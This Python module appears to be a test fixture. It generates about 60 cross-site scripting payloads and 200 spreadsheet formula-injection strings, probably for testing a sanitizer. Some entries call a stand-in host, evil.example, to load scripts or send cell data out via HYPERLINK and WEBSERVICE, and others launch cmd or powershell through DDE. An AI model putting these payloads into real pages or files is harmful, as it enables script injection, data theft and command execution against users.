"""What an attacker types: 60 ways to write a script, 200 ways to write a formula."""

from itertools import product

CALL = "window.pwn=1"
_HANDLERS = (
    "<img src=x onerror={c}>",
    "<svg onload={c}>",
    "<body onload={c}>",
    "<video src=x onerror={c}>",
    "<audio src=x onerror={c}>",
    "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>",
    "<details open ontoggle={c}>",
    "<marquee onstart={c}>",
    "<iframe onload={c}>",
    "<object data=x onerror={c}>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<video><source onerror={c}></video>",
    "<b onmouseover={c}>看</b>",
    "<p style='animation:x' onanimationend={c}>",
    "<IMG SRC=x OnErRoR={c}>",
    "<img/src='x'/onerror={c}>",
    "<img src=x\nonerror\n={c}>",
    "<img src=x onerror={c}//",
)
_SCRIPTS = (
    "<script>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "<script src='//evil.example/x.js'></script>",
    "<scr<script>ipt>{c}</script>",
    "<script\t>{c}</script >",
    "<script type=module>{c}</script>",
    "</script><script>{c}</script>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</style><script>{c}</script>",
    "<svg><script>{c}</script></svg>",
    "<math><mtext></p><script>{c}</script>",
    "--><script>{c}</script>",
    "]]><script>{c}</script>",
    "</option></select><script>{c}</script>",
)
_BREAKS = (
    '"><img src=x onerror={c}>',
    "'><img src=x onerror={c}>",
    '" onmouseover={c} x="',
    "' onfocus={c} autofocus x='",
    '" style="x:y" onpointermove="{c}',
    "`onload={c}`",
    '"}}]]]<img src=x onerror={c}>',
    '\\"><script>{c}</script>',
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "%3Cscript%3E{c}%3C/script%3E",
)
_LINKS = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java\tscript:{c}",
    "data:text/html,<script>{c}</script>",
    "<a href='javascript:{c}'>开</a>",
    "<form action='javascript:{c}'><button>开</button></form>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "[开](javascript:{c})",
)
_TEMPLATES = ("{{{{constructor.constructor('{c}')()}}}}", "${{{c}}}", "<u class=pwned>粗</u>")
SCRIPTS = [p.format(c=CALL) for p in (*_HANDLERS, *_SCRIPTS, *_BREAKS, *_LINKS, *_TEMPLATES)]

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_BEFORE = ("", " ", "\t", "\r", "\n", "\u3000", "\u00a0", "\u200b", "\ufeff", '"')
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"开")',
    'WEBSERVICE("http://evil.example/"&A1)',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML("http://evil.example","//a")',
    'DDE("cmd";"/C calc";"x")',
    'INDIRECT("A1")',
    "2+5+cmd|' /C powershell'!A0",
    "A1",
)
_PLACES = list(product(_BEFORE, SIGNS))
FORMULAS = [
    before + sign + _BODIES[(n + n // len(_PLACES)) % len(_BODIES)] for n, (before, sign) in enumerate(_PLACES * 3)
][:200]
